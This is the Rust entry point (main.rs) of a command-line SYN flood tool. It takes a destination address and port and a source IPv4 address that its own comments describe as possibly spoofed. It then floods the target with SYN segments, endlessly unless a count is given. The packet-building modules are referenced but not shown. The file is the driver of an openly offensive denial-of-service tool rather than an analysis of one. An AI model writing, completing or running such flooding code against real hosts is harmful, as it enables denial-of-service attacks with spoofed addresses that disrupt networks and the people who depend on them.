use std::net::Ipv4Addr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;

use anyhow::Context;
use clap::Parser;

mod common;
mod flood;
mod layer3;
mod layer4;

#[derive(Debug, Parser)]
struct CommandArguments {
    /// Source IPv4 address written into every header. May be spoofed;
    /// reachability and ownership are not checked.
    source_address: String,

    /// Destination IPv4 address.
    destination_address: String,

    /// Destination TCP port.
    destination_port: u16,

    /// Stop after this many segments. Flood endlessly when omitted.
    #[clap(short, long)]
    count: Option<u64>,

    /// Print verbose log.
    #[clap(short, long)]
    verbose: bool,

    /// Print more verbose log.
    #[clap(short, long)]
    trivia: bool,
}

fn set_loglevel(cli_cmds: &CommandArguments) {
    std::env::set_var("RUST_LOG", "info");
    if cli_cmds.verbose {
        std::env::set_var("RUST_LOG", "debug");
    }
    if cli_cmds.trivia {
        std::env::set_var("RUST_LOG", "trace");
    }

    // Setup logging.
    env_logger::builder().format_timestamp_millis().init();
}

#[tokio::main(flavor = "multi_thread", worker_threads = 1)]
async fn main() -> anyhow::Result<()> {
    let cli_cmds = CommandArguments::parse();
    set_loglevel(&cli_cmds);

    // Malformed addresses abort here, before any socket or packet work.
    let source = cli_cmds
        .source_address
        .parse::<Ipv4Addr>()
        .context("Source address is not a valid dotted-decimal IPv4 address.")?;
    let destination = cli_cmds
        .destination_address
        .parse::<Ipv4Addr>()
        .context("Destination address is not a valid dotted-decimal IPv4 address.")?;
    log::info!(
        "Flooding {destination}:{} from {source}.",
        cli_cmds.destination_port
    );

    let config = flood::SynFloodConfig::default();
    let mut flooder =
        flood::Flooder::configure(&config, source, destination, cli_cmds.destination_port)?;

    let stop = Arc::new(AtomicBool::new(false));

    // The flood loop yields every iteration, so the watcher gets polled
    // even on a single worker.
    let stop_on_signal = stop.clone();
    tokio::spawn(async move {
        match tokio::signal::ctrl_c().await {
            Ok(()) => {
                log::info!("Signal received. Graceful shutdown.");
                stop_on_signal.store(true, Ordering::Relaxed);
            }
            Err(err) => {
                eprintln!("Unable to listen for shutdown signal: {}", err);
                std::process::exit(1);
            }
        }
    });

    let sent = flooder.run(cli_cmds.count, &stop).await;
    log::info!("Flood finished. Sent {sent} SYN segments.");
    Ok(())
}
